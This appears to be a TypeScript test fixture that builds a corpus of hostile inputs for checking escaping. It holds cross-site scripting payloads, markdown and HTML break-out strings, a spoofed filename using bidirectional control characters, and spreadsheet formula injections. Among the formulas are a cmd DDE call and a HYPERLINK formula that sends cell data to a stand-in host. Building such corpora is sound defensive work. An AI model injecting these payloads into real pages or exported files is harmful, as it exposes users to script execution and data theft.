/** Ways to open a script, in the words of those who try. */
const TAGS = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//x.test/a>",
  "<meta http-equiv=refresh content=0;url=//x.test>",
  "<base href=//x.test>",
  "<object data=//x.test>",
  "<math><mi xlink:href=javascript:alert(1)>x",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=//x.test><input name=a>",
  "<template><b>x</template>",
  "<plaintext>",
  "<!--",
];

/** Ways out of where a text stands: elements, attributes, styles, comments, tables, lists, quotes. */
const BREAKOUTS = [
  "",
  "\"'>",
  "</title>",
  "</style>",
  "-->",
  "</td></tr></table>",
  "]]>",
  "\n\n# ",
  "|\n|---|\n|",
  "`",
];

const MARKS = [
  "**bold** _it_ ~~gone~~ `code`",
  "[x](javascript:alert(1))",
  "![x](//x.test/a.png)",
  "https://x.test/a www.x.test a@x.test",
  "<https://x.test>",
  "[^1]: note [^1]",
  "- [ ] task",
  "1. one\n2. two",
  "    indented code",
  "\tindented code",
  "```\nfenced\n```",
  "~~~\nfenced\n~~~",
  "> quoted",
  "a | b | c\n--|--|--\n1 | 2 | 3",
  "Heading\n=======",
  "Heading\n---",
  "***",
  "&lt;b&gt; &amp; &#60;script&#62;",
  "\\<script>alert(1)\\</script>",
  "line one  \nline two\\\nline three\\",
  "\\",
  "[a]: //x.test",
  "<b>x</b>|<i>y</i>",
  "$$x$$ :smile: @somebody #1",
  "\u202egnp.exe\u2066 \u200b\ufeff",
];

/** More than 200 texts with which people break out of pages and documents. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS.flatMap((tag) => BREAKOUTS.map((out) => `${out}${tag}`)),
  ...MARKS,
];

/** Texts that spreadsheets take for formulas. */
export const FORMULAS: readonly string[] = ["=", "+", "-", "@", "\t", "\r"].flatMap((sign) => [
  sign,
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://x.test?"&A1,"x")`,
  `${sign}1,"2"\r\n3`,
]);
